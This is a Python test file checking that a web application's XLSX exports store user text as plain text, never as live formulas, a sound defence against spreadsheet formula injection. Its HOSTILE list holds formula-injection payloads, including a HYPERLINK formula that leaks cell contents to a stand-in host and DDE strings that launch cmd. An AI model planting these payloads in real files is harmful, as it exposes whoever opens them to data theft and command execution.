"""Formula injection: every XLSX export writes people's text as text, never as a formula.

Each export is fed a hostile text (``=HYPERLINK(…)``, ``+cmd``, ``@SUM``, ``-2+3``, a tab,
a carriage return, an error code) and read back: the cell holds the exact text, its type is
text, and no sheet of the file contains a formula element.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from accompagnement.plans import services as plan_services
from accompagnement.plans import xlsx as plan_xlsx
from accompagnement.registres import xlsx as register_xlsx
from accompagnement.registres.models import Reclamation
from accompagnement.registres.registry import REGISTRES
from accompagnement.reporting import exports as reporting_exports
from core import xlsx

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def read_back(text: str) -> str:
    """XML turns a carriage return into a line feed: the text as any reader gets it back."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def assert_texts_not_formulas(content: bytes, expected: list[str]) -> None:
    """No formula anywhere in the file; each expected text is a text cell, intact."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    for text in expected:
        assert found.get(read_back(text)) == "s", (text, sorted(found)[:20])


def test_append_row_keeps_text_intact_and_never_writes_a_formula():
    workbook = Workbook()
    xlsx.append_row(workbook.active, ["en-tête", *HOSTILE, 42, None, "a\x00b\x07c"])
    content = xlsx.to_bytes(workbook)
    assert_texts_not_formulas(content, HOSTILE)
    values = next(load_workbook(io.BytesIO(content), read_only=True).active.values)
    assert values[1 : 1 + len(HOSTILE)] == tuple(read_back(text) for text in HOSTILE)
    assert values[-1] == "abc"  # control characters dropped instead of failing the export
    assert values[-3] == 42


def test_openpyxl_alone_writes_a_formula():
    """The check above can fail: plain ``sheet.append`` does write a live formula."""
    workbook = Workbook()
    workbook.active.append([HOSTILE[0]])
    with pytest.raises(AssertionError):
        assert_texts_not_formulas(xlsx.to_bytes(workbook), [HOSTILE[0]])


def test_register_export_through_the_page(network, client_for, in_structure):
    for number, text in enumerate(HOSTILE):
        Reclamation.objects.create(
            date="2016-01-05",
            forme="orale",
            client_reference=f"C-{number:04d}",
            categorie="autre",
            description=text,
        )
    response = client_for(network.user("lecteur")).get(
        "/s/alpha/registres/reclamations/export.xlsx"
    )
    assert response.status_code == 200
    assert_texts_not_formulas(response.content, HOSTILE)


def test_plan_export(network, in_structure):
    for text in HOSTILE:
        plan_services.create_action(
            structure=network.structure,
            user=network.user("referent"),
            titre=f"T {text}" if text.startswith(("\t", "\r")) else text,
            description=text,
        )
    content = plan_xlsx.export_plan(plan_services.Action.objects.order_by("pk"))
    assert_texts_not_formulas(content, HOSTILE)


def test_self_diagnosis_export(autodiagnostic, frame, network):
    from accompagnement.diagnostics import exports as diagnostic_exports
    from accompagnement.diagnostics import services as diagnostic_services

    for reponse, text in zip(autodiagnostic.reponses.all(), HOSTILE, strict=False):
        diagnostic_services.save_answer(
            structure=network.structure,
            reponse=reponse,
            valeur=frame.valeurs["C"],
            commentaire=text,
            expected_revision=reponse.revision,
            user=network.user("referent"),
        )
    content = diagnostic_exports.build_xlsx(autodiagnostic)
    expected = HOSTILE[: autodiagnostic.reponses.count()]
    assert_texts_not_formulas(content, [text.strip() for text in expected])


def test_consolidation_export():
    data = {
        "themes": [
            {"code": "4.1", "titre": HOSTILE[1], "declare": 0.5, "confirme": None, "ecart": None}
        ],
        "familles": {"effectivite": {"criteres": {}}, HOSTILE[2]: {"taux": 0.5, HOSTILE[3]: 1}},
        "module": {
            "definitions": [
                {
                    "libelle": HOSTILE[6],
                    "declare": 0.5,
                    "confirme": 0.5,
                    "ecart": 0.0,
                    "principal": True,
                }
            ]
        },
        "imperatifs": {"structures": 1, "part_tous_satisfaits": 1.0, "non_satisfaits": 0},
    }
    rows = [
        {
            "structure_nom": HOSTILE[0],
            "taux_declare": 0.5,
            "taux_confirme": 0.4,
            "ecart": 0.1,
            "tous_niveau1": True,
            "tous_niveau2": False,
            "taux_plan_actions": None,
            "taux_participation": None,
            "taux_satisfaits": None,
            "reclamations": 2,
            "taux_mecontents": None,
            "en_retard": 0,
            "themes": {},
            "criteres_cibles": {},
        }
    ]
    content = reporting_exports.consolidation_xlsx(data, rows)
    assert_texts_not_formulas(content, [*HOSTILE[:4], HOSTILE[6]])


def test_frame_export(frame):
    from referentiels.io import writing
    from referentiels.models import Critere

    version = frame.version
    # A published version is immutable through the models: change the row directly.
    Critere.objects.filter(pk=version.criteres.first().pk).update(titre=HOSTILE[0])
    content, _type, _name = writing.export_version(version, "xlsx")
    assert_texts_not_formulas(content, [HOSTILE[0]])


def test_register_header_map_still_reads_an_export_back(in_structure):
    """Exports stay importable: the texts are intact, not prefixed."""
    entries = [
        Reclamation(
            date="2016-01-05",
            forme="orale",
            client_reference="C-0001",
            categorie="autre",
            description=HOSTILE[0],
        )
    ]
    content = register_xlsx.export_register(REGISTRES["reclamations"], entries)
    unknown, rows = register_xlsx.read_rows(REGISTRES["reclamations"], content)
    assert unknown == []
    assert rows[0][1]["description"] == HOSTILE[0]
    assert rows[0][1]["client_reference"] == "C-0001"
